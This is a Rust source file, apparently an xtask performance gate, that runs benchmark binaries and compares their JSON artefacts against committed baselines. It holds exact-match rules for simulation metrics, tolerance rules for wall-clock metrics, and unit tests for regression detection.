/// Returns the gate stats on pass; on failure, the first regressed metric
/// with both values, the rule it broke, and the total regression count.
fn compare_artefacts(name: &str, baseline: &str, current: &str) -> Result<GateStats, String> {
    let base = parse_json(baseline).map_err(|e| format!("baseline for {name} unreadable: {e}"))?;
    let cur =
        parse_json(current).map_err(|e| format!("current artefact for {name} unreadable: {e}"))?;
    let mut fb = Flat::default();
    flatten(&base, "", &mut fb);
    let mut fc = Flat::default();
    flatten(&cur, "", &mut fc);

    // Shape first: string fields (parameter names, phase names) and any
    // appearing/vanishing sim metric mean the artefact no longer describes
    // the same experiment — that needs a baseline refresh, not a tolerance.
    if fb.shape != fc.shape {
        let diff = first_list_divergence(&fb.shape, &fc.shape);
        return Err(format!(
            "{name}: artefact shape changed ({diff}); if intended, run \
             `cargo xtask perfgate --update-baselines` and commit the diff"
        ));
    }
    let base_keys: Vec<&str> = fb.nums.iter().map(|(k, _)| k.as_str()).collect();
    let cur_keys: Vec<&str> = fc.nums.iter().map(|(k, _)| k.as_str()).collect();
    let mut skipped = 0usize;
    for k in &base_keys {
        if !cur_keys.contains(k) {
            if optional(k) {
                skipped += 1;
            } else {
                return Err(format!(
                    "{name}: metric `{k}` present in baseline but missing from \
                     the current artefact; if intended, run `cargo xtask \
                     perfgate --update-baselines`"
                ));
            }
        }
    }
    for k in &cur_keys {
        if !base_keys.contains(k) {
            if optional(k) {
                skipped += 1;
            } else {
                return Err(format!(
                    "{name}: new metric `{k}` absent from the baseline; run \
                     `cargo xtask perfgate --update-baselines` and commit the diff"
                ));
            }
        }
    }

    let mut compared = 0usize;
    let mut first_fail: Option<String> = None;
    let mut fails = 0usize;
    for (key, base_val) in &fb.nums {
        let Some((_, cur_val)) = fc.nums.iter().find(|(k, _)| k == key) else {
            continue; // optional wall metric, already counted as skipped
        };
        compared += 1;
        if let Some(msg) = regression(key, *base_val, *cur_val) {
            fails += 1;
            if first_fail.is_none() {
                first_fail = Some(msg);
            }
        }
    }
    match first_fail {
        Some(msg) => Err(format!("{name}: {fails} metric(s) regressed; first: {msg}")),
        None => Ok(GateStats { compared, skipped }),
    }
}

/// Applies the metric's rule; `Some(diff message)` when it regresses.
fn regression(key: &str, base: f64, cur: f64) -> Option<String> {
    let spec = spec_for(key);
    match spec.direction {
        Direction::Exact => {
            if base != cur {
                Some(format!(
                    "`{key}` baseline {base} != current {cur} (sim-deterministic, \
                     exact match required)"
                ))
            } else {
                None
            }
        }
        Direction::HigherBetter => {
            if base - cur > spec.noise_floor && cur < base * (1.0 - spec.rel_tol) {
                Some(format!(
                    "`{key}` dropped {base} -> {cur} (allowed: >= {:.1} after \
                     {:.0}% tolerance)",
                    base * (1.0 - spec.rel_tol),
                    spec.rel_tol * 100.0
                ))
            } else {
                None
            }
        }
        Direction::LowerBetter => {
            if cur - base > spec.noise_floor && cur > base * (1.0 + spec.rel_tol) {
                Some(format!(
                    "`{key}` rose {base} -> {cur} (allowed: <= {:.1} after \
                     {:.0}% tolerance)",
                    base * (1.0 + spec.rel_tol),
                    spec.rel_tol * 100.0
                ))
            } else {
                None
            }
        }
    }
}

/// First position where two string lists disagree, for shape diffs.
fn first_list_divergence(a: &[String], b: &[String]) -> String {
    for (i, (x, y)) in a.iter().zip(b.iter()).enumerate() {
        if x != y {
            return format!("entry {i}: baseline `{x}` vs current `{y}`");
        }
    }
    if a.len() > b.len() {
        format!("baseline has extra `{}`", a[b.len()])
    } else if b.len() > a.len() {
        format!("current has extra `{}`", b[a.len()])
    } else {
        "(identical?)".into()
    }
}

// ---------------------------------------------------------------------------
// Driver.
// ---------------------------------------------------------------------------

struct Config {
    root: PathBuf,
    fast: bool,
    trials: u32,
    update: bool,
}

fn parse_args(args: &[String]) -> Result<Config, String> {
    let mut cfg = Config {
        root: crate::default_root()?,
        fast: false,
        // Must match the trial count the committed baselines were captured
        // with; a mismatch fails loudly on the exact `trials` metric.
        trials: 5,
        update: false,
    };
    let mut it = args.iter();
    while let Some(arg) = it.next() {
        match arg.as_str() {
            "--fast" => cfg.fast = true,
            "--update-baselines" => cfg.update = true,
            "--trials" => {
                let v = it.next().ok_or("--trials needs a number")?;
                cfg.trials = v.parse().map_err(|_| format!("bad --trials value `{v}`"))?;
            }
            "--root" => {
                let v = it.next().ok_or("--root needs a directory")?;
                cfg.root = PathBuf::from(v);
            }
            other => return Err(format!("unknown argument `{other}`")),
        }
    }
    Ok(cfg)
}

fn baseline_path(cfg: &Config, name: &str) -> PathBuf {
    cfg.root
        .join("benchmarks")
        .join("baselines")
        .join(format!("BENCH_{name}.json"))
}

/// Runs one binary and returns its artefact text.
fn capture_artefact(cfg: &Config, name: &str, out_dir: &Path) -> Result<String, String> {
    let bin = cfg.root.join("target").join("release").join(name);
    let json_path = out_dir.join(format!("BENCH_{name}.json"));
    let output = Command::new(&bin)
        .arg(cfg.trials.to_string())
        .arg("--json")
        .arg(&json_path)
        .current_dir(&cfg.root)
        .output()
        .map_err(|e| format!("cannot run {}: {e}", bin.display()))?;
    if !output.status.success() {
        return Err(format!(
            "{name} exited with {} — stderr tail:\n{}",
            output.status,
            String::from_utf8_lossy(&output.stderr)
                .lines()
                .rev()
                .take(5)
                .collect::<Vec<_>>()
                .join("\n")
        ));
    }
    std::fs::read_to_string(&json_path)
        .map_err(|e| format!("{name} wrote no artefact at {}: {e}", json_path.display()))
}

pub fn run(args: &[String]) -> ExitCode {
    let cfg = match parse_args(args) {
        Ok(cfg) => cfg,
        Err(msg) => {
            eprintln!("xtask perfgate: {msg}");
            return ExitCode::FAILURE;
        }
    };

    eprintln!("[perfgate] building release binaries…");
    let status = Command::new("cargo")
        .args(["build", "--release", "-p", "bench"])
        .current_dir(&cfg.root)
        .status();
    match status {
        Ok(s) if s.success() => {}
        Ok(s) => {
            eprintln!("xtask perfgate: release build failed ({s})");
            return ExitCode::FAILURE;
        }
        Err(e) => {
            eprintln!("xtask perfgate: cannot run cargo: {e}");
            return ExitCode::FAILURE;
        }
    }

    let out_dir = cfg.root.join("target").join("perfgate");
    if let Err(e) = std::fs::create_dir_all(&out_dir) {
        eprintln!("xtask perfgate: cannot create {}: {e}", out_dir.display());
        return ExitCode::FAILURE;
    }

    let mut failures = 0usize;
    let mut covered = 0usize;
    for name in PERF_BINARIES {
        if cfg.fast && !FAST_SUBSET.contains(name) {
            continue;
        }
        covered += 1;
        let current = match capture_artefact(&cfg, name, &out_dir) {
            Ok(text) => text,
            Err(msg) => {
                eprintln!("[perfgate] FAIL {name}: {msg}");
                failures += 1;
                continue;
            }
        };
        let base_path = baseline_path(&cfg, name);
        if cfg.update {
            if let Some(parent) = base_path.parent() {
                if let Err(e) = std::fs::create_dir_all(parent) {
                    eprintln!("xtask perfgate: cannot create {}: {e}", parent.display());
                    return ExitCode::FAILURE;
                }
            }
            match std::fs::write(&base_path, &current) {
                Ok(()) => println!("[perfgate] baseline updated: {}", base_path.display()),
                Err(e) => {
                    eprintln!("[perfgate] FAIL {name}: cannot write baseline: {e}");
                    failures += 1;
                }
            }
            continue;
        }
        let baseline = match std::fs::read_to_string(&base_path) {
            Ok(text) => text,
            Err(e) => {
                eprintln!(
                    "[perfgate] FAIL {name}: no baseline at {} ({e}); run \
                     `cargo xtask perfgate --update-baselines` and commit it",
                    base_path.display()
                );
                failures += 1;
                continue;
            }
        };
        match compare_artefacts(name, &baseline, &current) {
            Ok(stats) => println!(
                "[perfgate] ok {name} ({} metrics compared, {} wall metrics skipped)",
                stats.compared, stats.skipped
            ),
            Err(msg) => {
                eprintln!("[perfgate] FAIL {msg}");
                failures += 1;
            }
        }
    }

    if failures > 0 {
        eprintln!("xtask perfgate: {failures} of {covered} binaries regressed");
        ExitCode::FAILURE
    } else if cfg.update {
        println!("xtask perfgate: {covered} baselines captured");
        ExitCode::SUCCESS
    } else {
        println!("xtask perfgate: {covered} binaries within baseline envelope");
        ExitCode::SUCCESS
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A miniature artefact in exactly the shape `bench::report::rows_to_json`
    /// emits: one row with histogram, wall metrics, and a phase profile.
    fn artefact(mean: f64, trials_per_sec: f64, wall_ns: u64) -> String {
        format!(
            "[\n  {{\"parameter\":\"hop\",\"value\":36,\"succeeded\":5,\
             \"trials\":5,\"min\":1,\"q1\":1,\"median\":2,\"q3\":3,\"max\":4,\
             \"mean\":{mean:.3},\"variance\":1.300,\"raw\":[1, 2, 2, 3, 4],\
             \"anchor_error_us\":{{\"count\":5,\"mean\":4.100,\"p50\":4,\
             \"p90\":6,\"p95\":6,\"p99\":6,\"min\":3.000,\"max\":6.000}},\
             \"lead_time_us\":null,\"events_per_sec\":1000.0,\
             \"trials_per_sec\":{trials_per_sec:.1},\"peak_rss_kb\":3000,\
             \"phase_profile\":[{{\"phase\":\"trial-sync\",\"count\":5,\
             \"sim_ns\":500000000,\"self_sim_ns\":498000000,\
             \"wall_ns\":{wall_ns},\"self_wall_ns\":{wall_ns}}}]}}\n]\n"
        )
    }

    #[test]
    fn identical_artefacts_pass() {
        let a = artefact(2.2, 4000.0, 100_000);
        let stats = compare_artefacts("exp1", &a, &a).expect("identical must pass");
        assert!(stats.compared > 15, "flattening found {}", stats.compared);
        assert_eq!(stats.skipped, 0);
    }

    #[test]
    fn doctored_sim_metric_fails_exactly() {
        let base = artefact(2.2, 4000.0, 100_000);
        let doctored = artefact(2.4, 4000.0, 100_000);
        let err = compare_artefacts("exp1", &base, &doctored).unwrap_err();
        assert!(err.contains("`[0].mean`"), "{err}");
        assert!(err.contains("2.2"), "{err}");
        assert!(err.contains("2.4"), "{err}");
        assert!(err.contains("exact match required"), "{err}");
    }

    #[test]
    fn wall_metrics_tolerate_machine_variance() {
        let base = artefact(2.2, 4000.0, 100_000_000);
        // Half the throughput and 4x the span wall time: noisy, not fatal.
        let noisy = artefact(2.2, 2000.0, 400_000_000);
        compare_artefacts("exp1", &base, &noisy).expect("within tolerance");
        // A 100x throughput collapse is a real regression.
        let collapsed = artefact(2.2, 40.0, 100_000_000);
        let err = compare_artefacts("exp1", &base, &collapsed).unwrap_err();
        assert!(err.contains("trials_per_sec"), "{err}");
        assert!(err.contains("dropped"), "{err}");
    }

    #[test]
    fn wall_rise_beyond_tolerance_fails() {
        let base = artefact(2.2, 4000.0, 100_000_000);
        // 20x the span wall time breaks the 10x envelope.
        let slow = artefact(2.2, 4000.0, 2_000_000_000);
        let err = compare_artefacts("exp1", &base, &slow).unwrap_err();
        assert!(err.contains("wall_ns"), "{err}");
        assert!(err.contains("rose"), "{err}");
    }

    #[test]
    fn tiny_wall_times_sit_under_the_noise_floor() {
        // 100x relative rise but only 99µs absolute: under the 10ms floor.
        let base = artefact(2.2, 4000.0, 1_000);
        let cur = artefact(2.2, 4000.0, 100_000);
        compare_artefacts("exp1", &base, &cur).expect("noise floor absorbs it");
    }

    #[test]
    fn missing_wall_metric_is_skipped_missing_sim_metric_fails() {
        let base = artefact(2.2, 4000.0, 100_000);
        // `peak_rss_kb:null` (non-Linux baseline) flattens to absent.
        let no_rss = base.replace("\"peak_rss_kb\":3000", "\"peak_rss_kb\":null");
        let stats = compare_artefacts("exp1", &base, &no_rss).expect("wall absence is fine");
        assert_eq!(stats.skipped, 1);
        // A vanished sim metric is a shape change, not noise.
        let no_median = base.replace("\"median\":2,", "");
        let err = compare_artefacts("exp1", &base, &no_median).unwrap_err();
        assert!(err.contains("[0].median"), "{err}");
        assert!(err.contains("--update-baselines"), "{err}");
    }

    #[test]
    fn renamed_phase_is_a_shape_change() {
        let base = artefact(2.2, 4000.0, 100_000);
        let renamed = base.replace("trial-sync", "trial-warmup");
        let err = compare_artefacts("exp1", &base, &renamed).unwrap_err();
        assert!(err.contains("shape changed"), "{err}");
        assert!(err.contains("--update-baselines"), "{err}");
    }

    #[test]
    fn phase_rows_key_by_name_not_position() {
        let mut f = Flat::default();
        let v = parse_json(
            "{\"phase_profile\":[{\"phase\":\"trial-sync\",\"sim_ns\":5},\
             {\"phase\":\"trial-follow\",\"sim_ns\":7}]}",
        )
        .unwrap();
        flatten(&v, "", &mut f);
        let keys: Vec<&str> = f.nums.iter().map(|(k, _)| k.as_str()).collect();
        assert!(
            keys.contains(&"phase_profile[trial-sync].sim_ns"),
            "{keys:?}"
        );
        assert!(
            keys.contains(&"phase_profile[trial-follow].sim_ns"),
            "{keys:?}"
        );
    }

    #[test]
    fn reader_handles_the_writer_subset() {
        let v = parse_json("[{\"a\":1.5,\"b\":null,\"c\":[1, 2],\"d\":\"x\"}]").unwrap();
        let Json::Arr(items) = v else { panic!("array") };
        let Json::Obj(fields) = &items[0] else {
            panic!("object")
        };
        assert_eq!(fields[0], ("a".into(), Json::Num(1.5)));
        assert_eq!(fields[1], ("b".into(), Json::Null));
        assert!(parse_json("[1, 2] trailing").is_err());
        assert!(parse_json("{\"open\":").is_err());
    }

    #[test]
    fn first_regressed_metric_is_named_with_total_count() {
        let base = artefact(2.2, 4000.0, 100_000);
        let doctored = artefact(2.2, 4000.0, 100_000)
            .replace("\"succeeded\":5", "\"succeeded\":4")
            .replace("\"median\":2", "\"median\":3");
        let err = compare_artefacts("exp1", &base, &doctored).unwrap_err();
        assert!(err.contains("2 metric(s) regressed"), "{err}");
        assert!(err.contains("first:"), "{err}");
    }

    #[test]
    fn fast_subset_is_a_subset_of_the_matrix() {
        for name in FAST_SUBSET {
            assert!(
                PERF_BINARIES.contains(name),
                "fast-subset binary {name} missing from the matrix"
            );
        }
    }

    #[test]
    fn wall_classification_matches_the_determinism_neutral_list() {
        // The fields determinism neutralises are exactly the fields the gate
        // treats as tolerant; everything else is exact.
        for key in [
            "[0].trials_per_sec",
            "[0].events_per_sec",
            "[0].peak_rss_kb",
            "[0].phase_profile[trial-sync].wall_ns",
            "[0].phase_profile[trial-sync].self_wall_ns",
        ] {
            assert_ne!(spec_for(key).direction, Direction::Exact, "{key}");
        }
        for key in [
            "[0].mean",
            "[0].phase_profile[trial-sync].sim_ns",
            "[0].phase_profile[trial-sync].self_sim_ns",
            "[0].anchor_error_us.p95",
            // Trial-accounting counters are sim-deterministic: a panicked
            // trial at a fixed seed is a code regression, never noise, so
            // the gate holds them exact (and `panicked_trials` appearing
            // where the baseline has none is a missing-metric failure,
            // which is the point).
            "[0].panicked_trials",
            "[0].trials",
            "[0].succeeded",
        ] {
            assert_eq!(spec_for(key).direction, Direction::Exact, "{key}");
        }
    }
}
